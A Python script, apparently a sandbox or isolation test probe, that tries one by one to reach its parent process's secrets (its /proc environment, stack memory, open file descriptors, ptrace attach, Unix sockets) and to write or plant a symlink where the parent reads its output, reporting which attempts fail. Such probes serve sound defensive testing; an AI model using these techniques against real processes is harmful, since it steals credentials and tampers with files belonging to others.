"""Tries every door to its parent's credentials and prints as JSON what each gave."""

import ctypes
import json
import os
import socket
import sys
from pathlib import Path

PTRACE_ATTACH, PTRACE_DETACH = 16, 17
_libc = ctypes.CDLL(None, use_errno=True)


def environment() -> str:
    return json.dumps(dict(os.environ))


def parents_environment(pid: str) -> str:
    return Path(f"/proc/{pid}/environ").read_text(errors="replace")


def parents_memory(pid: str) -> str:
    stack = next(line for line in Path(f"/proc/{pid}/maps").read_text().splitlines() if "[stack]" in line)
    first, last = (int(end, 16) for end in stack.split()[0].split("-"))
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        memory.seek(first)
        return memory.read(last - first).decode(errors="replace")


def parents_descriptors(pid: str) -> str:
    return " ".join(os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd"))


def ptrace(pid: str) -> str:
    if _libc.ptrace(PTRACE_ATTACH, int(pid), None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace refused")
    os.waitpid(int(pid), 0)
    _libc.ptrace(PTRACE_DETACH, int(pid), None, None)
    return "attached"


def descriptors() -> str:
    found = []
    for fd in range(3, 256):
        try:
            found.append(os.read(fd, 4096).decode(errors="replace"))
        except OSError:
            continue
    return "".join(found)


def ask(address: str) -> str:
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(5)
        client.connect(address)
        return client.recv(100).decode()


def read(path: str) -> str:
    return Path(path).read_text()


def write(path: str) -> str:
    if os.path.isdir(path):
        made = os.path.join(path, f"hostile-{os.getpid()}.pth")
        os.close(os.open(made, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
        os.unlink(made)
    else:
        with open(path, "ab"):
            pass
    return "written" if not os.stat(path).st_rdev else "to nowhere"


def plant(target: str) -> str:
    """Put a link where the parent may look for what this prints."""
    place = os.readlink("/proc/self/fd/1")
    os.unlink(place)
    os.symlink(target, place)
    return place


def attempt(door: str, *words: str) -> str:
    try:
        return str(globals()[door](*words))
    except (OSError, ValueError, StopIteration) as error:
        return f"shut: {type(error).__name__}"


if __name__ == "__main__":
    wanted = json.loads(sys.argv[1])
    print(json.dumps({name: attempt(*call) for name, call in wanted.items()}))
